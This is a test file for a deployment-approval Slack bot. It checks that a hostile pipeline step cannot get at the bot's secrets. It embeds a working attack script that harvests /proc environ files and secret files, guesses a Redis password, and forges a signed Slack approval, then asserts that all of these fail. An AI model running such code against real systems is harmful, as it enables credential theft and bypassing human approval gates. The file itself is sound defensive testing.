import { randomBytes } from 'node:crypto';
import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type BotProcess, spawnBot } from '../../support/bot-process.js';
import { type FakePrometheus, startFakePrometheus } from '../../support/fake-prometheus.js';
import { type FakeSlack, startFakeSlack } from '../../support/fake-slack/index.js';
import { type RedisServer, startRedisServer } from '../../support/redis-server.js';
import { waitFor } from '../../support/wait-for.js';
import { createWorkspace, testPipeline, type Workspace } from '../../support/workspace.js';

// The gate bypass, attempted for real: a deploy step (the pipeline repository's code) goes looking for the bot's
// secrets in /proc, in its secret files and in Redis, and forges a signed Approve with whatever it found. The bot
// runs as root here, as in its image, so steps run as an unprivileged user and find nothing.

const HOSTILE = String.raw`
import { createHmac } from 'node:crypto';
import { readFileSync, readdirSync } from 'node:fs';
import { connect } from 'node:net';
const found = { uid: process.getuid(), read: {}, denied: [] };
const tryRead = (path) => {
  try { found.read[path] = readFileSync(path, 'latin1'); } catch (error) { found.denied.push(path + ' ' + error.code); }
};
tryRead('/proc/' + process.ppid + '/environ');
tryRead('/proc/' + process.ppid + '/cmdline');
for (const pid of readdirSync('/proc').filter((entry) => /^\d+$/.test(entry))) tryRead('/proc/' + pid + '/environ');
for (const path of process.env.ATTACK_FILES.split(',')) tryRead(path);
const redis = await new Promise((resolve) => {
  const socket = connect(Number(process.env.ATTACK_REDIS_PORT), '127.0.0.1');
  let answer = '';
  socket.on('connect', () => socket.write('AUTH default guessed\r\nKEYS *\r\n'));
  socket.on('data', (chunk) => { answer += chunk; if (answer.split('\r\n').length > 2) socket.end(); });
  socket.on('close', () => resolve(answer));
  socket.on('error', (error) => resolve(String(error)));
});
found.redis = redis;
const everything = Object.values(found.read).join('\n');
const secret = /SLACK_SIGNING_SECRET=([^\0\n]+)/.exec(everything)?.[1] ?? 'guessed-secret';
const body = 'payload=' + encodeURIComponent(JSON.stringify({
  type: 'block_actions', user: { id: 'U0CAROL' }, team: { id: 'T0TEST' },
  actions: [{ action_id: 'promotion.approve', value: process.env.PROMOTION_ID, type: 'button' }],
}));
const ts = Math.floor(Date.now() / 1000);
const signature = 'v0=' + createHmac('sha256', secret).update('v0:' + ts + ':' + body).digest('hex');
const response = await fetch(readFileSync('attack-url', 'utf8'), {
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': String(ts), 'x-slack-signature': signature },
  body,
}).then((r) => r.status, (error) => String(error));
found.forged = response;
console.log(JSON.stringify(found));
`;

let redis: RedisServer;
let slack: FakeSlack;
let prometheus: FakePrometheus;
let workspace: Workspace;
let secretsDir: string;
let bot: BotProcess | undefined;
const secrets = {
  bot: `xoxb-${randomBytes(12).toString('hex')}`,
  signing: randomBytes(16).toString('hex'),
  api: randomBytes(16).toString('hex'),
  redisPassword: randomBytes(12).toString('hex'),
};

beforeAll(async () => {
  expect(process.getuid?.(), 'the isolation test needs root, as CI and the image have').toBe(0);
  redis = await startRedisServer({ password: secrets.redisPassword });
  slack = await startFakeSlack({ token: secrets.bot });
  prometheus = await startFakePrometheus();
  workspace = await createWorkspace();
  secretsDir = await mkdtemp(join(tmpdir(), 'pb-secrets-'));
  await chmod(secretsDir, 0o700);
  await writeFile(join(secretsDir, 'signing'), `${secrets.signing}\n`, { mode: 0o600 });
  await writeFile(join(secretsDir, 'redis'), `redis://:${secrets.redisPassword}@127.0.0.1:${redis.port}`, {
    mode: 0o600,
  });
  await writeFile(join(workspace.dir, 'hostile.mjs'), HOSTILE);
  const deploy = await readFile(join(workspace.dir, 'deploy.sh'), 'utf8');
  // The deploy step of development attacks first, then deploys as usual.
  await writeFile(
    join(workspace.dir, 'deploy.sh'),
    deploy.replace(
      '#!/bin/sh\n',
      '#!/bin/sh\n[ "$ENVIRONMENT" = development ] && node "$(dirname "$0")/hostile.mjs" > "attack-$VERSION.json" 2>&1\n',
    ),
  );
  await workspace.writePipeline(testPipeline({ prometheusUrl: prometheus.url }));
});

afterAll(async () => {
  bot?.child.kill('SIGKILL');
  await redis?.stop();
  await slack?.close();
  await prometheus?.close();
  await workspace?.remove();
  if (secretsDir) await rm(secretsDir, { recursive: true, force: true });
});

describe('a hostile run step', () => {
  it('finds none of the bot secrets, in /proc, files or Redis, and its forged Approve leaves the gate shut', async () => {
    // The bot token and the API token in the environment, the signing secret and the Redis URL as files.
    bot = spawnBot(['start'], {
      SLACK_BOT_TOKEN: secrets.bot,
      SLACK_SIGNING_SECRET: '',
      SLACK_SIGNING_SECRET_FILE: join(secretsDir, 'signing'),
      REDIS_URL_FILE: join(secretsDir, 'redis'),
      PROMOTION_API_TOKEN: secrets.api,
      SLACK_API_URL: slack.apiUrl,
      PIPELINE_FILE: join(workspace.dir, 'pipeline.yml'),
      PORT: '0',
      HOST: '127.0.0.1',
      ATTACK_FILES: [join(secretsDir, 'signing'), join(secretsDir, 'redis')].join(','),
      ATTACK_REDIS_PORT: String(redis.port),
    });
    const url = await waitFor(
      'the bot to listen',
      () => /"url":"(http:[^"]+)"/.exec(bot?.output() ?? '')?.[1],
    );
    const api = (path: string, init: RequestInit = {}) =>
      fetch(`${url}${path}`, {
        ...init,
        headers: { authorization: `Bearer ${secrets.api}`, 'content-type': 'application/json' },
      }).catch((error: unknown) => {
        throw new Error(`${String(error)}; the bot said: ${bot?.output()}`);
      });
    await writeFile(join(workspace.dir, 'attack-url'), `${url}/slack/events`);
    const published = await api('/api/artifacts', {
      method: 'POST',
      body: JSON.stringify({ service: 'checkout', version: '1.0.0', digest: `sha256:${'a'.repeat(64)}` }),
    });
    expect(published.status, bot.output()).toBe(202);
    const { id } = (await published.json()) as { id: string };

    await waitFor('the promotion to reach the gate', async () => {
      const body = (await (await api(`/api/promotions/${id}`)).json()) as { status: string };
      return body.status === 'awaiting_approval';
    });
    const report = await readFile(join(workspace.dir, 'attack-1.0.0.json'), 'utf8');
    const found = JSON.parse(report.trim().split('\n').at(-1) ?? '{}') as {
      uid: number;
      read: Record<string, string>;
      denied: string[];
      redis: string;
      forged: number | string;
    };

    expect(found.uid).not.toBe(0);
    for (const value of Object.values(secrets)) expect(report).not.toContain(value);
    expect(found.denied).toContain(`/proc/${bot.pid}/environ EACCES`);
    expect(found.denied).toContain(`${join(secretsDir, 'signing')} EACCES`);
    expect(found.denied).toContain(`${join(secretsDir, 'redis')} EACCES`);
    expect(found.redis).toMatch(/WRONGPASS|NOAUTH/);
    expect(found.forged).toBe(401);
    const after = (await (await api(`/api/promotions/${id}`)).json()) as { status: string };
    expect(after.status).toBe('awaiting_approval');
  });
});
